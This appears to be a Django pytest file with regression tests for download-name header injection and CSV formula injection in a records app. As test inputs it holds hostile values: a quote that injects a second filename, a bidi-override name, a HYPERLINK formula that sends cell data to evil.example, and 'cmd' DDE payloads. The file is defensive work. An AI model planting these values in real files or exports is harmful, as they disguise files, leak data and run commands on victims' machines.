"""Breaches 10 and 11: what a download says about itself, and what a spreadsheet does with an export.

10: a file name with a quote injected a second ``filename`` into Content-Disposition (the browser
saved ``evil.html``); bidi overrides and look-alike extensions disguised the file's type.
11: an actor's or a document's name starting with ``=`` ran as a formula in the CSV export.
"""

from __future__ import annotations

from urllib.parse import quote

import pytest
from django.urls import reverse
from django.utils.http import parse_header_parameters

from apps.access.models import AccessEvent
from apps.records.models import Document
from tests.conftest import logged_in_client
from tests.factories import DocumentFactory
from tests.records.conftest import pdf_bytes

pytestmark = pytest.mark.django_db

INJECTED = 'evil.html"; filename="evil.html'


def _saved_as(response) -> str:
    """The name a browser saves the file under, read as RFC 6266 says (filename* first)."""
    _disposition, params = parse_header_parameters(response["Content-Disposition"])
    return params["filename"]


def _multipart_upload(client, url: str, filename: str, data: bytes):
    """An upload whose part header carries the name as an attacker sends it (RFC 5987 encoded)."""
    boundary = "BoUnDaRy"
    body = (
        (
            f"--{boundary}\r\n"
            f"Content-Disposition: form-data; name=\"file\"; filename*=UTF-8''{quote(filename)}\r\n"
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return client.post(url, body, content_type=f"multipart/form-data; boundary={boundary}")


def test_a_quote_in_a_file_name_cannot_inject_a_second_file_name(run_tasks, alice, alice_record):
    client = logged_in_client(alice)
    uploaded = run_tasks(
        _multipart_upload, client, reverse("api_record_documents", args=[alice_record.uuid]), INJECTED, pdf_bytes()
    )
    assert uploaded.status_code == 201, uploaded.content
    document = Document.objects.get(uuid=uploaded.json()["id"])

    for name in ("document_content", "api_document_content"):
        response = client.get(reverse(name, args=[document.uuid]))
        header = response["Content-Disposition"]
        assert header.count('"') == 2, header  # one quoted value, nothing after it
        _disposition, params = parse_header_parameters(header)
        assert list(params) == ["filename"], header
        assert params["filename"] == "evil.html'; filename='evil.pdf"


@pytest.mark.parametrize(
    ("stored", "saved"),
    [
        ('evil.html"; x=".pdf', "evil.html'; x='.pdf"),
        ("invoice\u202efdp.html", "invoicefdp.pdf"),
        ("report.pdf.exe", "report.pdf.pdf"),
        ("scan.HTM", "scan.pdf"),
        ("Compte rendu 12.03.2024", "Compte rendu 12.03.2024.pdf"),
        ("Résumé.pdf", "Résumé.pdf"),
    ],
)
def test_the_served_name_keeps_the_real_extension(alice, alice_record, stored, saved):
    document = DocumentFactory(record=alice_record, original_filename=stored, mime_type="application/pdf")
    from apps.records import documents

    # The stored content is what inspection found: a PDF, whatever the name says.
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(documents, "document_content", lambda **kwargs: (document, b"%PDF-1.7"))
        response = logged_in_client(alice).get(reverse("document_content", args=[document.uuid]))

    assert response["Content-Disposition"].startswith("attachment; ")
    assert _saved_as(response) == saved


def test_a_non_ascii_name_is_encoded_not_dropped(alice, alice_record):
    document = DocumentFactory(record=alice_record, original_filename="Ordonnance Dr Lefèvre.pdf")
    from apps.records import documents

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(documents, "document_content", lambda **kwargs: (document, b"%PDF-1.7"))
        response = logged_in_client(alice).get(reverse("api_document_content", args=[document.uuid]))

    assert "filename*=utf-8''Ordonnance%20Dr%20Lef%C3%A8vre.pdf" in response["Content-Disposition"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_access_history_export_never_carries_a_formula(alice, alice_record, formula):
    from apps.access.policy import Action, Resource, authorize

    # An actor's label and a document's title are chosen by other people: the attack's carrier.
    alice.display_name = formula
    alice.save(update_fields=["display_name"])
    resource = Resource("document", None, formula)
    authorize(actor=alice, record=alice_record, action=Action.DOCUMENT_READ, resource=resource)
    assert AccessEvent.objects.filter(resource_label=formula).exists()

    response = logged_in_client(alice).get(reverse("access_history_csv", args=[alice_record.uuid]))

    assert response.status_code == 200
    from defusedcsv import csv  # reading back with the standard reader

    rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(formula.strip() in cell for cell in cells)
    for cell in cells:
        assert cell[:1] not in ("=", "+", "@", "\t", "\r", "|", "%"), cell
        assert not (cell[:1] == "-" and not cell[1:2].isdigit()), cell
